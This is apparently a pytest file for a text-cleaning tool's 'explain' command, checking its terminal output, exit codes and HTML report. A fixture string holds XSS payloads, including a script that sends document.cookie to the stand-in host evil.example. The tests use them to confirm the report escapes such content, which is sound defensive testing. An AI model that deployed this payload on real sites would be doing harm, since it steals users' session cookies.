"""cleaner explain: the terminal explanation, the HTML report and CleanDocument._repr_html_."""

from __future__ import annotations

import dataclasses
import io
import re
from collections import Counter

import lxml.html
import pytest
from conftest import FIXTURES, ROOT, SEED_FILES, run_cli
from rich.console import Console

from cleaner import clean, clean_file
from cleaner.output.explain import print_explanation, reason_counts, render_html, render_text

SEED = SEED_FILES[2]  # seeds/002_51033e559864e0e3.txt
ANSI = re.compile(r"\x1b\[")

HOSTILE = (
    "<script>alert('title')</script> Council approves the tram\n\n"
    "by <img src=x onerror=alert(1)>\n\n"
    + " ".join(["The council voted on Tuesday night to extend the tram line to the eastern districts."] * 4)
    + "\n\n"
    + "This website uses cookies. <script>document.location='https://evil.example/?'+document.cookie</script> "
    "By continuing to use this site, you accept our use of cookies.\n\n"
    'Source: <a href="javascript:alert(2)">"quoted" & \'single\'</a>\n'
)


@pytest.fixture
def plain_env(monkeypatch):
    """The subprocess must decide on its own that a pipe gets no colors: no variable may force them."""
    for name in ("FORCE_COLOR", "TTY_COMPATIBLE", "TTY_INTERACTIVE", "CLICOLOR_FORCE"):
        monkeypatch.delenv(name, raising=False)


def squash(text: str) -> str:
    return " ".join(text.split())


def removed_elements(page: str) -> list:
    tree = lxml.html.fromstring(page)
    return tree.xpath('//*[contains(concat(" ", normalize-space(@class), " "), " removed ")]')


# ---------------------------------------------------------------- the command


def test_explain_lists_every_block_with_its_reason_and_no_ansi_when_piped(plain_env):
    doc = clean_file(SEED)
    assert len(doc.decisions) == 13 and len(doc.removed) == 6
    result = run_cli("explain", str(SEED.relative_to(ROOT)))
    assert result.returncode == 0, result.stderr.decode()
    out = result.stdout.decode("utf-8")
    assert not ANSI.search(out) and "\x1b" not in out
    headers = re.findall(
        r"^ *(\d+) (kept|removed)(?:  (\S+) · (\S+))?(?:(?: · |  )score ([\d.]+))?$", out, flags=re.MULTILINE
    )
    assert [int(index) for index, *_ in headers] == [d.block.index for d in doc.decisions]
    for (_, status, reason, rule, shown_score), decision in zip(headers, doc.decisions, strict=True):
        assert status == ("kept" if decision.keep else "removed")
        assert (reason, rule) == (("", "") if decision.keep else (decision.reason, decision.rule))
        assert shown_score == ("" if decision.score is None else f"{decision.score:.2f}")
    flat = squash(out)
    for decision in doc.decisions:
        assert squash(decision.block.text[:60]) in flat
    for reason, n in Counter(span.reason for span in doc.removed).items():
        chars = sum(len(span.text) for span in doc.removed if span.reason == reason)
        assert re.search(rf"^{reason} +{n} +{chars}$", out, flags=re.MULTILINE), reason
    assert doc.title in flat and "author: Admin" in out
    assert result.stderr == b""


def test_explain_writes_the_html_report_and_says_where(tmp_path, plain_env):
    report = tmp_path / "report.html"
    result = run_cli("explain", str(SEED), "--html", str(report))
    assert result.returncode == 0
    assert str(report) in result.stderr.decode()
    page = report.read_text(encoding="utf-8")
    assert page == render_html(clean_file(SEED))
    assert len(removed_elements(page)) == 6


def test_explain_reads_stdin_with_mode_url_and_rules(tmp_path, plain_env):
    rules = tmp_path / "site.toml"
    rules.write_text(
        '[ruleset]\nclass = "subscription_prompt"\n\n[[rules]]\nid = "site.riverton.tram"\n'
        "pattern = '^construction is expected'\n"
        'positive = ["Construction is expected to begin next spring."]\n'
        'negative = ["The construction of the line was expected."]\n'
    )
    page = (FIXTURES / "html" / "01_cookie_consent_modal.html").read_bytes()
    result = run_cli(
        "explain", "-", "--mode", "html", "--url", "https://news.example/a", "--rules", str(rules), stdin=page
    )
    assert result.returncode == 0, result.stderr.decode()
    out = result.stdout.decode()
    assert "source: stdin" in out and "url: https://news.example/a" in out and "input: html" in out
    assert "removed  subscription_prompt · site.riverton.tram" in out


def test_failed_document_exits_1_with_one_line_error(plain_env, tmp_path):
    result = run_cli("explain", "-", stdin=b"")
    assert result.returncode == 1
    assert result.stdout == b""
    assert result.stderr.decode().splitlines() == ["cleaner: error: stdin: empty input"]
    missing = run_cli("explain", str(tmp_path / "missing.txt"), "--html", str(tmp_path / "r.html"))
    assert missing.returncode == 1
    assert len(missing.stderr.decode().splitlines()) == 1
    assert "cannot read file" in missing.stderr.decode()
    assert not (tmp_path / "r.html").exists()


def test_document_with_every_block_removed_is_still_explained_then_fails(tmp_path, plain_env):
    junk = tmp_path / "junk.txt"
    junk.write_text("Leave a Comment\n\nThis website uses cookies. By continuing you accept our use of cookies.\n")
    result = run_cli("explain", str(junk))
    assert result.returncode == 1
    assert "removed  cookie_banner" in result.stdout.decode()
    assert result.stderr.decode().strip().startswith(f"cleaner: error: {junk}: no article text found")


@pytest.mark.parametrize(
    "args",
    [
        ("explain",),
        ("explain", "a.txt", "b.txt"),
        ("explain", "seeds"),
        ("explain", "seeds/002_51033e559864e0e3.txt", "--mode", "pdf"),
        ("explain", "seeds/002_51033e559864e0e3.txt", "--rules", "no-such-rules.toml"),
    ],
)
def test_usage_errors_exit_2(args):
    assert run_cli(*args).returncode == 2


def test_malformed_rules_file_is_a_usage_error(tmp_path):
    bad = tmp_path / "bad.toml"
    bad.write_text("[ruleset\n")
    result = run_cli("explain", str(SEED), "--rules", str(bad))
    assert result.returncode == 2
    assert "bad.toml" in result.stderr.decode()


# ---------------------------------------------------------------- the terminal view


def test_terminal_view_does_not_obey_the_page():
    doc = clean(
        "Headline \x1b[31mred\x1b]8;;https://evil.example\x07 [bold]x[/bold] :smile: \u202egnp.exe\n\n" + HOSTILE
    )
    out = render_text(doc)
    assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
    assert "\\x1b[31mred" in out and "\\u202egnp.exe" in out
    assert "[bold]x[/bold] :smile:" in out  # no rich markup, no emoji codes


def test_terminal_view_is_colored_on_a_terminal():
    buffer = io.StringIO()
    console = Console(file=buffer, force_terminal=True, color_system="standard", width=100)
    print_explanation(clean_file(SEED), console)
    out = buffer.getvalue()
    assert "\x1b[1;31mremoved\x1b[0m" in out and "\x1b[1;32mkept\x1b[0m" in out
    assert "\x1b[2;9mby Admin\x1b[0m" in out  # removed text: dim and struck through


def test_terminal_view_shortens_long_blocks_but_html_keeps_them():
    doc = clean_file(SEED)
    longest = max(doc.decisions, key=lambda d: len(d.block.text)).block.text
    out = squash(render_text(doc, width=100))
    assert squash(longest) not in out and "chars]" in out
    assert squash(longest) in squash(render_text(doc, max_chars=None))
    assert longest in lxml.html.fromstring(render_html(doc)).text_content()


# ---------------------------------------------------------------- the HTML report


def test_render_html_escapes_hostile_content():
    doc = clean(HOSTILE, mode="text", url='javascript:alert(3)"><script>alert(4)</script>')
    assert doc.error is None and len(doc.removed) >= 2
    page = render_html(doc)
    assert "<script" not in page.lower()
    assert "<img" not in page.lower() and "<a " not in page.lower()
    assert "&lt;script&gt;document.location=" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "&quot;&gt;&lt;script&gt;alert(4)" in page
    tree = lxml.html.fromstring(page)
    assert not tree.xpath("//script | //img | //a | //iframe | //*[@onerror] | //link | //@src")
    text = tree.text_content()
    assert "<script>document.location='https://evil.example/?'+document.cookie</script>" in text
    assert "\"quoted\" & 'single'" in text
    removed = removed_elements(page)
    assert [el.get("data-reason") for el in removed] == [span.reason for span in doc.removed]
    assert [el.get("data-rule") for el in removed] == [span.rule for span in doc.removed]


def test_render_html_shows_metadata_every_block_in_order_and_labels():
    doc = clean_file(FIXTURES / "html" / "01_cookie_consent_modal.html", url="https://news.example/tram")
    tree = lxml.html.fromstring(render_html(doc))
    assert tree.xpath("string(//h1)") == doc.title
    meta = dict(zip(tree.xpath("//dl/dt/text()"), tree.xpath("//dl/dd/text()"), strict=True))
    assert meta["author"] == doc.author and meta["date"] == doc.date and meta["model"] == doc.provenance.model_version
    blocks = tree.xpath('//main/*[contains(@class, "block")]')
    assert [int(el.get("data-index")) for el in blocks] == [d.block.index for d in doc.decisions]
    for element, decision in zip(blocks, doc.decisions, strict=True):
        if decision.keep:
            assert element.tag == "p" and element.get("class") == "block kept"
            assert element.text_content() == decision.block.text
        else:
            assert element.xpath("string(del)") == decision.block.text
            label = f"{decision.reason} · {decision.rule}"
            if decision.score is not None:
                label += f" · score {decision.score:.2f}"
            assert element.xpath("string(span[@class='label'])") == label
    assert "\n\n".join(el.text_content() for el in blocks if "kept" in el.get("class")) == doc.text
    assert not tree.xpath("//script | //link | //@src") and "url(" not in render_html(doc)


@pytest.mark.parametrize(
    "path", [*SEED_FILES, FIXTURES / "html" / "01_cookie_consent_modal.html"], ids=lambda p: p.name
)
def test_summary_table_counts_match_removed(path):
    doc = clean_file(path)
    expected = {
        reason: (n, sum(len(span.text) for span in doc.removed if span.reason == reason))
        for reason, n in Counter(span.reason for span in doc.removed).items()
    }
    assert {r.reason: (r.blocks, r.characters) for r in reason_counts(doc)} == expected
    tree = lxml.html.fromstring(render_html(doc))
    rows = tree.xpath("//table[@class='summary']/tbody/tr[@data-reason]")
    shown = {row.get("data-reason"): (int(row[1].text), int(row[2].text)) for row in rows}
    assert shown == expected
    total = tree.xpath("//table[@class='summary']/tfoot/tr/td/text()")
    assert total == ["total removed", str(len(doc.removed)), str(sum(len(s.text) for s in doc.removed))]
    assert len(removed_elements(render_html(doc))) == len(doc.removed)


def test_nothing_removed_says_so():
    doc = clean_file(SEED_FILES[1])  # 001 is a clean article
    assert doc.removed == ()
    page = render_html(doc)
    assert "nothing was removed" in page and not removed_elements(page)


def test_failed_document_report_shows_the_error():
    page = render_html(clean(b"\x89PNG\r\n\x1a\n\x00\x00"))
    tree = lxml.html.fromstring(page)
    assert "not text" in tree.xpath("string(//dd[@class='error'])")
    assert "0 blocks" in tree.xpath("string(//p[@class='counts'])")


def test_repr_html_is_the_report():
    doc = clean_file(SEED)
    assert doc._repr_html_() == render_html(doc)
    assert 'class="cleaner-report"' in doc._repr_html_()


def test_a_score_is_shown_only_where_a_decision_has_one():
    """Rules give no score; the model's decisions show theirs, in both views."""
    doc = clean_file(SEED)
    scored = [d for d in doc.decisions if d.score is not None]
    unscored = [d for d in doc.decisions if d.score is None]
    assert unscored, "rule decisions carry no score"
    text, page = render_text(doc), render_html(doc)
    assert text.count("score ") == len(scored)
    assert page.count("data-score=") == len(scored)
    for decision in scored:
        assert f'data-score="{decision.score:.4f}"' in page

    rescored = dataclasses.replace(doc, decisions=tuple(dataclasses.replace(d, score=0.25) for d in doc.decisions))
    byline = next(d for d in doc.decisions if d.reason == "byline")
    assert f"byline · {byline.rule} · score 0.25" in render_text(rescored)
    assert 'data-score="0.2500"' in render_html(rescored)
